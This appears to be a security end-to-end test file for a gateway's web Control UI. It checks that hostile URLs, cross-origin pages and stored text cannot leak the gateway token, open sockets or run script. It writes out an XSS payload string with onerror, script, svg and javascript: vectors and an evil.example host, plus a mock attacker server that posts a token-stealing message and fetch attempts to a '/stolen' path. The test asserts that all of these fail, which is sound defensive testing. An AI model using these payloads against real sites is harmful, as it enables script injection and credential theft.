// What hostile addresses, pages and texts can do to the Control UI: nothing.
import { expect } from 'bun:test'
import { until } from '../e2e/program.ts'
import { pages, rig, slow, ui } from './rig.ts'

/** Markup, scripts and addresses that run wherever a text is taken for more than a text. */
const hostile = `<img src=x onerror="window.pwned=1"><script>window.pwned=1</script><svg onload="window.pwned=1"></svg>"'><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>[x](javascript:window.pwned=1) ![y](https://evil.example/y.png) \u202egnp.exe {{constructor}} \${pwned}`

ui(
  'SEC-01: an address or a page never makes the UI show its secret to another gateway',
  async () => {
    const heard: string[] = []
    using evil = Bun.serve({
      port: 0,
      hostname: '127.0.0.1',
      fetch(request, server) {
        heard.push(request.url)
        if (server.upgrade(request)) return undefined
        return new Response(
          '<script>setInterval(() => opener?.postMessage({ gatewayUrl: location.origin, token: 1 }, "*"), 50)</script>',
        )
      },
      websocket: { message: () => undefined },
    })
    await using r = await rig()
    const there = `ws://127.0.0.1:${evil.port}`
    const { page, gw } = r
    await r.open('')
    for (const address of [
      `?gatewayUrl=${there}`,
      `#gatewayUrl=${there}`,
      `chat?gatewayUrl=${there}&token=stolen#gatewayUrl=${there}&token=${gw.token}`,
      `?token=${gw.token}&gatewayUrl=${encodeURIComponent(there)}`,
    ]) {
      await page.go('about:blank')
      await page.go(`${gw.url}/${address}`)
      await page.until('the connection', `document.querySelector('.lamp.open') !== null`)
      const now = await page.value<string>('location.href')
      expect(now).not.toMatch(/token|gatewayUrl|stolen/)
    }
    await page.value(`window.postMessage({ gatewayUrl: '${there}', token: 'x' }, '*')`)
    await page.value(`fetch('http://127.0.0.1:${evil.port}/stolen').catch(() => 0)`)
    await page.value(
      `new Promise((done) => { try { const s = new WebSocket('${there}'); s.onerror = s.onopen = done } catch { done(0) } })`,
    )
    await page.value(
      `new Promise((done) => { const i = new Image(); i.onerror = i.onload = done; i.src = 'http://127.0.0.1:${evil.port}/i.png' })`,
    )
    expect(heard).toEqual([])
    const refused = page.trouble.filter((x) => x.kind === 'log' && /Content Security Policy/.test(x.text))
    expect(refused.length).toBeGreaterThanOrEqual(3)
    expect(
      await page.value<string>(
        `document.createElement('a').referrerPolicy + (await fetch(location.href)).headers.get('referrer-policy')`
          .replace(/^/, '(async () => ')
          .replace(/$/, ')()'),
      ),
    ).toBe('no-referrer')
    for (const url of page.requests.filter((u) => /^https?:/.test(u)))
      expect([url.split('#')[0]?.includes(gw.token) && !/[?&]token=/.test(url), url]).toEqual([false, url])
  },
  slow,
)

ui(
  'SEC-02: a page of another origin gets no socket, no data and no frame of the UI',
  async () => {
    await using r = await rig({ names: ['evil.test'] })
    const { page, gw } = r
    using evil = Bun.serve({
      port: 0,
      hostname: '127.0.0.1',
      fetch: () => new Response('<title>evil</title>', { headers: { 'content-type': 'text/html' } }),
    })
    await r.open('')
    await page.go(`http://evil.test:${evil.port}/`)
    await page.until('the other page', `document.title === 'evil'`)
    const signIn = `new Promise((done) => {
      const s = new WebSocket('ws://127.0.0.1:${gw.port}/')
      s.onmessage = (e) => e.data.includes('challenge') ? s.send(JSON.stringify({ type: 'req', id: '1', method: 'connect', params: { minProtocol: 3, maxProtocol: 3, client: { id: 'openclaw-control-ui', mode: 'webchat', version: '1', platform: 'web' }, auth: { token: '${gw.token}' } } })) : done(e.data)
      s.onerror = () => done('refused')
    })`
    expect(await page.value<string>(signIn)).toContain('origin not allowed')
    expect(await page.value<string>(`fetch('${gw.url}/health').then((x) => x.text(), () => 'closed')`)).toBe('closed')
    const framed = `new Promise((done) => { const f = document.createElement('iframe'); f.onload = () => done(f.contentDocument === null ? 'blocked' : 'blank'); f.src = '${gw.url}/'; document.body.append(f) })`
    await page.value(framed)
    await until(
      'the frame to be refused',
      () => page.trouble.some((x) => /frame-ancestors|Refused to display/.test(x.text)) || undefined,
    )
    await page.go(`http://evil.test:${gw.port}/`)
    await page.until('the page of that name', `document.readyState === 'complete' && location.port === '${gw.port}'`)
    expect(await page.value<number>(`document.querySelectorAll('#app *').length`)).toBe(0)
  },
  slow,
)

ui(
  'SEC-17: hostile text in every stored field stays text, on every page, in every dialog',
  async () => {
    const name = hostile.slice(0, 60)
    await using r = await rig({
      config: {
        agents: { list: [{ id: 'main', name: hostile, identity: { name: hostile, emoji: '<b>' } }] },
        hooks: {
          enabled: true,
          token: 'hook-token-123456',
          webhooks: [{ id: 'ci', agentId: hostile, message: hostile }],
        },
        models: {
          providers: {
            evil: {
              baseUrl: 'http://127.0.0.1:9',
              api: 'openai-completions',
              apiKey: 'x',
              models: [{ id: hostile, name: hostile }],
            },
          },
        },
        channels: { telegram: { enabled: false, name: hostile, botToken: hostile } },
        [hostile.slice(0, 30)]: hostile,
      },
      prepare: (state) => state.write('workspace/SOUL.md', hostile),
    })
    const { page, gw } = r
    await gw.ask(hostile)
    await gw.ask(
      `\`\`\`html\n${hostile}\n\`\`\`\n\n> ${hostile}\n\n| ${hostile.replaceAll('|', '')} |\n|---|\n| x |\n\n- ${hostile}`,
    )
    const picture = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="top.pwned=1"><script>top.pwned=1</script><image href="https://evil.example/y.png"/></svg>`
    await gw.call('chat.send', {
      sessionKey: 'main',
      message: 'a picture',
      idempotencyKey: 'picture',
      attachments: [{ mimeType: 'image/svg+xml', fileName: hostile, content: btoa(picture) }],
    })
    await gw.call('sessions.patch', { key: 'main', label: name })
    await gw.call('chat.inject', { sessionKey: 'main', message: hostile, label: name })
    await gw.call('cron.add', {
      name: hostile,
      description: hostile,
      schedule: { everyMs: 1e9 },
      payload: { kind: 'systemEvent', text: hostile },
    })
    await gw.call('agents.files.set', { agentId: 'main', name: 'USER.md', content: hostile })
    await gw.call('system-event', { text: hostile })
    const asked = gw.call('exec.approval.request', {
      command: hostile.replace('\u202e', ''),
      cwd: hostile.replace('\u202e', ''),
      agentId: hostile,
      timeoutMs: 50_000,
    })
    asked.catch(() => undefined)
    await r.open('')
    for (const path of pages) {
      await r.visit(path)
      await page.until('its data', `document.querySelector('main .waiting') === null`)
      const open = `[...document.querySelectorAll('main details')].forEach((d) => (d.open = true))`
      await page.value(open)
      await page.value('new Promise((done) => setTimeout(done, 100))')
    }
    await r.visit('chat')
    await page.until('the picture', `document.querySelector('.picture img')?.complete`)
    await page.click('.picture')
    await page.until('it larger', `document.querySelector('dialog img.large')?.complete`)
    expect(await page.value<string>(`document.querySelector('dialog a[download]').protocol`)).toBe('data:')
    await page.press('Escape')
    await r.visit('sessions')
    await page.click('button[aria-label="Preview"]')
    await page.shows(/window\.pwned=1/)
    await page.press('Escape')
    await r.visit('cron')
    await page.choose('Edit the job')
    await page.until('the job', `document.querySelector('dialog input')?.value.includes('onerror')`)
    await page.press('Escape')
    await r.visit('config')
    await page.choose('Text')
    expect(await page.value<unknown>('window.pwned ?? null')).toBeNull()
    expect(
      await page.value<number>(
        `document.querySelectorAll('iframe, object, embed, script:not([src]), a[href^="javascript"], main img:not([src^="data:"], [src^="blob:"])').length`,
      ),
    ).toBe(0)
    expect(page.requests.filter((url) => url.includes('evil.example'))).toEqual([])
    expect(page.trouble.filter((x) => x.kind !== 'request')).toEqual([])
  },
  slow,
)

ui(
  'markup made of text is refused by the browser itself, should it ever be tried',
  async () => {
    await using r = await rig()
    await r.open('')
    const tried = await r.page.value<string[]>(
      `['innerHTML', 'outerHTML'].map((name) => { try { document.body.appendChild(document.createElement('p'))[name] = '<b>x</b>'; return 'made' } catch (e) { return e.name } })`,
    )
    expect(tried).toEqual(['TypeError', 'TypeError'])
    const run = `(() => { const s = document.createElement('script'); try { s.text = 'window.pwned = 1'; document.body.append(s) } catch {} ; const p = document.createElement('p'); try { p.setAttribute('onclick', 'window.pwned = 1') } catch {} ; document.body.append(p); p.click(); return window.pwned ?? null })()`
    expect(await r.page.value<unknown>(run)).toBeNull()
  },
  slow,
)
